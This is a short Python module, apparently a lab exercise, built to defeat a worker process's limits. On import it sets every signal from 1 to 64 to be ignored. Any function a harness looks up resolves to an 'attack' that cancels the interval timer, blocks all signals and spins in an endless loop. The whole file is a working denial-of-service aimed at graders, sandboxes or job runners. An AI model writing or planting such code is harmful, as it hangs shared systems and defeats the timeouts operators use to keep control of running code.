"""Switches the worker's time limits off, and ignores every signal."""
# lab: 01, todo: 2

import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue


def attack(*args, **kwargs):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        pass


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return attack
